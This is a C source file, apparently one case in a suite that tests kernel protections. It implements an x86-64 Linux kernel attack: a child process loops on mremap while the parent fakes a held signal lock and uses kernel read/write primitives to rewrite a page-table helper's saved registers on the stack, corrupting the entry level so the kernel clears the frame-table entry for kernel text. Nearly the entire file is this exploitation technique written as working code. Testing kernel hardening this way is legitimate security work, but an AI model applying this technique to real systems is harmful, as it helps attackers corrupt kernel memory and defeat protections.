// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on a helper that is interrupted when it has asked about an entry, and before
 * the section that writes it asks again. A process moves tables for ever. Its timer's
 * handler waits for a lock that is made to look held: that of the process's signals.
 * Meanwhile the helper's registers are changed, which lie on the stack. Where an entry
 * may be that leads to a table is asked by its level: the level is made one less than
 * none, the place one in the table of frames, and what is written no entry.
 */
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define HELPER		"exchange"
#define HELPER_BEGIN	0x80		/* bytes, up to where its section asks */
#define HELPER_CPU	1
#define INTERVAL	1000		/* microseconds */
#define HOLD		5		/* milliseconds */
#define SECONDS		40
#define ENOUGH		8		/* frames that were changed */
#define MOVED_PART	0x5f
#define MOVED_TABLES	16
#define NO_LEVEL	0xffffffffUL
#define LEVEL_WORDS	13		/* of a frame: those that may have the level */

struct target {
	pid_t pid;
	struct task task;
	uint64_t lock, helper;
	uint64_t place;			/* what is to be cleared */
	int changed;
};

static struct {
	volatile bool ready, go;
	volatile unsigned long rounds;
} *shared;

/* Whole tables: each is unlinked and linked by the helper. */
static void move_for_ever(void)
{
	size_t size = MOVED_TABLES * PMD_SIZE, i;
	char *place[] = { (void *)user_room(MOVED_PART), NULL };
	volatile char *page = sparse_region(user_room(MOVED_PART), MOVED_TABLES,
					    PROT_READ | PROT_WRITE);
	int from = 0;

	place[1] = place[0] + 2 * size;
	for (i = 0; page && i < MOVED_TABLES; i++)
		page[i * PMD_SIZE] = 1;
	shared->ready = true;
	while (!shared->go)
		usleep(1000);
	alarm_every(INTERVAL);
	for (; page; from = !from, shared->rounds++)
		if (mremap(place[from], size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
			   place[!from]) != place[!from])
			break;
}

static pid_t start_child(void)
{
	pid_t pid;

	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid)
		return pid;
	stay_on_cpu(HELPER_CPU);
	heed_alarms();
	move_for_ever();
	_exit(1);
}

static bool find_target(struct target *target)
{
	target->helper = ksymbol(HELPER);
	target->place = frame_of_text() & -8UL;	/* around text is text */
	if (!target->helper || ktask(target->pid, &target->task))
		return false;
	target->lock = find_signal_lock(&target->task);
	return target->lock;
}

/* In a section the registers would be put back. */
static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct target *target = data;
	int i;

	if (has_hit_section(HELPER_CPU))
		return;
	for (i = 0; i < LEVEL_WORDS; i++)
		if (frame[i] == LEVEL_PTE)
			kwrite64(at + i * sizeof(*frame), NO_LEVEL);
	kwrite64(at + FRAME_DI * sizeof(*frame), target->place);
	kwrite64(at + FRAME_SI * sizeof(*frame), 0);
	target->changed++;
}

static void attack_once(struct target *target)
{
	set_lock(target->lock, true);
	usleep(HOLD * 1000);
	find_frames(&target->task, target->helper, HELPER_BEGIN, change_frame, target);
	set_lock(target->lock, false);
	usleep(HOLD * 1000);
}

static time_t now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec;
}

/* Who has it refused is killed. */
static bool clear_frames(struct target *target)
{
	time_t end = now() + SECONDS;

	shared->go = true;
	while (kread64(target->place) && target->changed < ENOUGH && now() < end &&
	       !waitpid(target->pid, NULL, WNOHANG))
		attack_once(target);
	kill(target->pid, SIGKILL);
	return !kread64(target->place);
}

enum outcome interrupted_level(void)
{
	struct target target = { 0 };

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!is_protected())
		return vdso_text();
	stay_on_cpu(0);
	target.pid = start_child();
	while (!shared->ready)
		usleep(1000);
	if (!find_target(&target))
		return broken("no stack, no lock or no helper");
	if (clear_frames(&target))
		return won("the kernel cleared what the table of frames says of text");
	if (!target.changed)
		return broken("the helper was not interrupted (%lu rounds)", shared->rounds);
	return lost("%d frames were changed in %lu rounds, and text is what it was",
		    target.changed, shared->rounds);
}
#else
enum outcome interrupted_level(void)
{
	return skipped("knows the registers of x86-64");
}
#endif
